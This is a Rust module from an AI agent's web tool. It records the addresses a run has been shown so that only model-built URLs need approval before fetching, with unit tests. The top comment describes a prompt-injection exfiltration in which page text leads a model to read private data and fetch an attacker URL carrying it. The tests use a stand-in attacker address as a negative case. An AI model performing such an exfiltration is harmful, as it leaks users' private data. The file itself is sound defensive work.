//! The web addresses a run has been shown: in its input, in a search result, on a page it read.
//! `fetch_page` opens those without asking. An address the model put together itself is another
//! matter: injected page text can have a model read something private with one tool, then
//! "fetch" `https://attacker/?d=<what it read>` — so such an address asks first, like a tool
//! that changes things.

use std::collections::HashSet;
use std::sync::{Arc, Mutex, PoisonError};

use reqwest::Url;

/// Addresses kept per run, at most: a page with a million links must not grow memory without
/// limit (an address past the limit asks, which is safe).
const MAX_ADDRESSES: usize = 20_000;

/// The addresses of one run. Cheap to clone; the clones share one set.
#[derive(Clone, Debug, Default)]
pub struct SeenAddresses {
    inner: Arc<Mutex<HashSet<String>>>,
}

impl SeenAddresses {
    /// A run's set, starting with the addresses in its input.
    pub fn from_input(input: &str) -> Self {
        let seen = SeenAddresses::default();
        seen.note_text(input);
        seen
    }

    /// Notes every http(s) address written in `text`.
    pub fn note_text(&self, text: &str) {
        self.note_all(addresses_in(text));
    }

    /// Notes these addresses.
    pub fn note_all(&self, urls: impl IntoIterator<Item = Url>) {
        let mut set = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        for url in urls {
            if set.len() >= MAX_ADDRESSES {
                return;
            }
            set.insert(key(&url));
        }
    }

    /// Whether the run was shown this address (exactly: another query is another address).
    pub fn contains(&self, url: &Url) -> bool {
        self.inner
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .contains(&key(url))
    }
}

/// An address as compared: parsed (so case and escapes are the same), without its `#fragment`,
/// which never leaves the computer.
fn key(url: &Url) -> String {
    let mut u = url.clone();
    u.set_fragment(None);
    u.to_string()
}

/// The http(s) addresses written in `text`, without the punctuation a sentence puts after one.
pub fn addresses_in(text: &str) -> impl Iterator<Item = Url> + '_ {
    let mut rest = text;
    std::iter::from_fn(move || {
        loop {
            let at = find_scheme(rest)?;
            let tail = &rest[at..];
            let end = tail
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '<' | '>' | '`'))
                .unwrap_or(tail.len());
            let word = tail[..end].trim_end_matches([
                '.', ',', ';', ':', '!', '?', ')', ']', '}', '\'', '”', '’', '*',
            ]);
            rest = &tail[end..];
            if let Ok(url) = Url::parse(word)
                && url.host_str().is_some()
            {
                return Some(url);
            }
        }
    })
}

fn find_scheme(text: &str) -> Option<usize> {
    let http = text.find("http://");
    let https = text.find("https://");
    match (http, https) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn addresses_are_found_in_sentences() {
        let found: Vec<String> = addresses_in(
            "Read https://example.com/a. Then (http://Example.org/b?x=1), \"https://q.test/c\" \
             and https://t.test/d#part; not ftp://x or https://",
        )
        .map(|u| u.to_string())
        .collect();
        assert_eq!(
            found,
            [
                "https://example.com/a",
                "http://example.org/b?x=1",
                "https://q.test/c",
                "https://t.test/d#part",
            ]
        );
    }

    #[test]
    fn only_the_exact_address_counts() {
        let seen = SeenAddresses::from_input("see https://example.com/report?id=7");
        assert!(seen.contains(&url("https://EXAMPLE.com/report?id=7")));
        assert!(seen.contains(&url("https://example.com/report?id=7#top")));
        assert!(!seen.contains(&url("https://example.com/report?id=7&d=secret")));
        assert!(!seen.contains(&url("https://example.com/report")));
        assert!(!seen.contains(&url("https://attacker.test/?d=7")));
    }

    #[test]
    fn the_set_has_a_limit() {
        let seen = SeenAddresses::default();
        seen.note_all((0..MAX_ADDRESSES + 10).map(|i| url(&format!("https://e.test/{i}"))));
        assert!(seen.contains(&url("https://e.test/0")));
        assert!(!seen.contains(&url(&format!("https://e.test/{}", MAX_ADDRESSES + 5))));
    }
}
